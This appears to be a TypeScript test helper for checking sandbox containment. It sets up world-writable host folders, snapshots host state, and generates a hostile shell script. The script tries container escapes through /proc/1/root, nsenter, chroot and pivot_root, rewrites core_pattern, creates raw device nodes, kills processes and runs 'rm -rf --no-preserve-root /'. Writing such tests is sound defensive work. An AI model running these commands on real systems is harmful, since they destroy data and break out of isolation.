/** A script that means harm, and what it would like to change. */
import fs from 'node:fs';
import path from 'node:path';

/** A folder of the host that anybody may change, so that only the sandbox stands before it. */
export function makePrey(folder: string, name: string): string {
  const prey = path.join(folder, name);
  fs.chmodSync(folder, 0o777);
  for (const made of [prey, path.join(prey, 'sub')]) {
    fs.mkdirSync(made);
    fs.chmodSync(made, 0o777);
  }
  for (const file of ['kept', 'sub/kept']) {
    fs.writeFileSync(path.join(prey, file), 'mine\n');
    fs.chmodSync(path.join(prey, file), 0o666);
  }
  return prey;
}

/** All that can be seen of the folder and of the host. */
export function lookAtHost(prey: string): readonly string[] {
  const entries = fs.readdirSync(prey, { recursive: true, encoding: 'utf8' }).sort();
  const files = entries.map((entry) => {
    const at = path.join(prey, entry);
    const { mode, uid, mtimeMs, size } = fs.lstatSync(at);
    return [entry, mode, uid, mtimeMs, size, fs.lstatSync(at).isFile() ? fs.readFileSync(at, 'utf8') : ''].join(' ');
  });
  const settings = ['/proc/sys/vm/swappiness', '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname'];
  const kernel = settings.map((file) => `${file} ${fs.readFileSync(file, 'latin1')}`);
  const mounts = fs.readFileSync('/proc/self/mountinfo', 'latin1');
  return [...files, ...kernel, mounts, `evil: ${fs.existsSync('/usr/bin/evil')}`];
}

/**
 * @param prey a folder that anybody may change
 * @param pid a process of the host
 */
export function hostileScript(prey: string, pid: number): string {
  return `#!/bin/sh
PREY=${prey}
PIDFILE=/run/mumbled.pid
DAEMON=/usr/sbin/mumbled
# The tools of the host, and not their stand-ins.
PATH=/.host/usr/bin:/.host/usr/sbin:$PATH
{
	mount -o remount,rw /.host/usr; mount -o remount,rw /proc/sys
	mount -t proc proc /mnt; mount -t tmpfs tmpfs /home
	for file in /proc/sys/vm/swappiness /mnt/sys/vm/swappiness; do echo 3 >$file; done
	echo '|/tmp/evil' >/proc/sys/kernel/core_pattern; sysctl -w vm.swappiness=3; echo b >/proc/sysrq-trigger
	hostname evil; kill -9 ${pid}; kill -9 -1
	ln -s "$PREY" /var/out; ln -s /proc/1/root /var/up; mkdir -p "$PREY"
	for at in "" /proc/1/root /proc/1/cwd /proc/$PPID/root /var/up /var/up/../.. /.old ../../../..; do
		echo evil >$at$PREY/kept; echo evil >$at$PREY/new; rm -rf $at$PREY; touch $at/usr/bin/evil
	done
	echo evil >/var/out/new; nsenter -t 1 -a touch "$PREY/new"; chroot /proc/1/root touch "$PREY/new"
	mknod /tmp/disk b 8 0; mknod /tmp/mem c 1 1; echo evil >/tmp/mem
	mount --bind /root /.host/usr/share; pivot_root / /mnt; rm -rf /* /.host /.io; umount -l /proc; umount -a; rm -rf --no-preserve-root /
	reboot -f; halt -f; poweroff -f; shutdown -h now
} >/dev/null 2>&1
exit 0
`;
}
